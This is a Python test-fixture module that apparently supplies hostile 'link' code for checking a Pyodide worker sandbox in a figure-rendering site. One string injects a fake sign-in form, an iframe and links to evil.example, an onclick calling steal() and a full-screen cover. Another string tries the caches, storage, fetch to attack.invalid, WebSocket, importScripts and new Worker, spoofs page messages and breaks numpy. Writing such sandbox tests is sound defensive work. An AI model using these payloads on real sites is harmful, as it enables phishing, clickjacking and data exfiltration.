"""A link's code that draws what the figure API never makes, and tries, from its sandbox, each
way to what it must not reach (the engines' link scenarios)."""

#: Appended to the shipped module by a link: its frames also carry markup the figure API never
#: makes (the id is another figure's on the page).
HOSTILE = """

_plain = render


def render(state):
    frame = _plain(state)
    extra = (
        '<form action="https://evil.example/"><input name="pw"><button>Sign in</button></form>'
        '<a href="https://evil.example/">away</a><iframe src="https://evil.example/"></iframe>'
        '<span id="figure-probability_budget" onclick="steal()">clash</span>'
        '<div data-hostile="cover" style="position: fixed; inset: 0">cover</div>'
    )
    return Frame(frame.html + extra, frame.alt, frame.layers)
"""

#: A link's code that tries, once imported, to reach what it must not; each attempt tells the
#: page as it begins and as it ends, and how. SITE is the site's address.
ATTACKED = "normalizing_flow"
ATTACKS = """

import asyncio

import js
import numpy
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

_tried = {}


def _tell(label):
    said = {"step": 0, "label": label, "loaded": 0, "total": 0}
    js.postMessage(to_js({"type": "progress", "data": said}, dict_converter=js.Object.fromEntries))


async def _try(name, attempt):
    # Told to the page as it begins and as it ends: the page reads how each ended, and an
    # attempt that never returns (it holds this worker) is the one begun and not ended.
    _tried[name] = "pending"
    _tell(f"attempting {name}")
    # Settled by the promise's own callbacks: a promise rejected with an Event (an XMLHttpRequest's
    # or a Worker's error) is no exception Python can await.
    ended = asyncio.get_event_loop().create_future()
    try:
        result = attempt()
    except Exception:
        ended.set_result("refused")
    else:
        if hasattr(result, "then"):
            result.then(create_proxy(lambda value: ended.set_result(f"allowed {value}")),
                        create_proxy(lambda error: ended.set_result("refused")))
        else:
            ended.set_result("allowed")
    how = _tried[name] = await ended
    _tell(f"attempted {name}: {how}")


def _socket(url):
    def wait(resolve, reject):
        socket = js.WebSocket.new(url)
        socket.onopen = resolve
        socket.onerror = reject
    return js.Promise.new(create_proxy(wait))


def _worker(url):
    def wait(resolve, reject):
        worker = js.Worker.new(url)
        worker.onmessage = resolve
        worker.onerror = reject
        boot = {"indexURL": url, "moduleURL": url, "shared": [], "package": "x", "sizes": {},
                "timeout": 60, "snapshots": "attack"}
        message = {"type": "boot", "data": boot}
        worker.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    return js.Promise.new(create_proxy(wait))


def _request(url):
    def wait(resolve, reject):
        request = js.XMLHttpRequest.new()
        request.onload = resolve
        request.onerror = reject
        request.open("GET", url)
        request.send()
    return js.Promise.new(create_proxy(wait))


_fetch = js.WorkerGlobalScope.prototype.fetch
_FIRST = {
    "caches": lambda: js.caches.keys().then(lambda keys: f"{keys.length} caches"),
    "caches.put": lambda: js.caches.open("attack").then(
        lambda cache: cache.put("SITE", js.Response.new("attacked"))),
    "indexedDB": lambda: js.indexedDB.open("attack"),
    "localStorage": lambda: js.localStorage.setItem("attack", "1"),
    "fetch this site": lambda: _fetch.call(js.self, "SITE"),
    "fetch another host": lambda: _fetch.call(js.self, "http://attack.invalid/"),
    "XMLHttpRequest": lambda: _request("SITE"),
    "WebSocket": lambda: _socket("ws://attack.invalid/"),
    "import()": lambda: run_js("import('SITE')"),
    "importScripts": lambda: js.importScripts("SITEassets/figures/worker.js"),
}


# The attempts run once the import has returned (from a timer), not during it: Firefox sets up
# a worker's XMLHttpRequest, WebSocket and new Worker through the page's main thread, and on a
# loaded machine a run that made them was stopped now and then by its 20 s watch. new Worker
# comes last, once the others have ended (or, never settling, are told so): Firefox, now and
# then, never returns from it, and the worker it holds is stopped (tests/test_engines.py).
async def _attack():
    for type_ in ("progress", "took", "ready", "frame", "error", "ran"):
        data = {"id": "density_surface", "html": "<p>attacked</p>", "alt": "attacked",
                "layers": [], "message": "attacked", "detail": "", "request": "render",
                "ok": True, "controls": "", "line": None, "step": 1, "label": "attacked",
                "loaded": 0, "total": 0}
        js.postMessage(to_js({"type": type_, "data": data}, dict_converter=js.Object.fromEntries))
    first = [asyncio.ensure_future(_try(name, attempt)) for name, attempt in _FIRST.items()]
    await asyncio.wait(first, timeout=10)
    for name, how in _tried.items():
        if how == "pending":
            _tell(f"attempted {name}: pending")
    await _try("new Worker", lambda: _worker("SITEassets/figures/worker.js"))
    _tell("attempted all")


js.setTimeout(create_proxy(lambda: asyncio.ensure_future(_attack())), 0)
# What density_surface computes with, and this figure does not.
numpy.cos = numpy.radians = numpy.cross = None
"""
#: The attempts, and how many (import() only through eval, which the policy refuses).
ATTEMPTS = 11

#: How an attempt may end besides "refused": WebKit gives an opaque origin a Cache Storage of
#: its own (empty, and not the site's: the page checks that nothing landed in its own), and
#: never settles a fetch its policy refuses (no request leaves: the guard checks it).
CONTAINED = {
    "caches": "allowed 0 caches",
    "caches.put": "allowed None",
    "fetch this site": "pending",
    "fetch another host": "pending",
}

#: What an engine, now and then, may never return from: the attempt then holds its sandbox's
#: worker, which the page stops (bridge.js: a request left untaken). Firefox 153 ESR's sandbox
#: answered nothing more, in about 1 full run of 6, once the link's code said it was attempting
#: new Worker (its last word then; whether new Worker itself never returned, the next one tells).
HELD = {"firefox": ["new Worker"]}
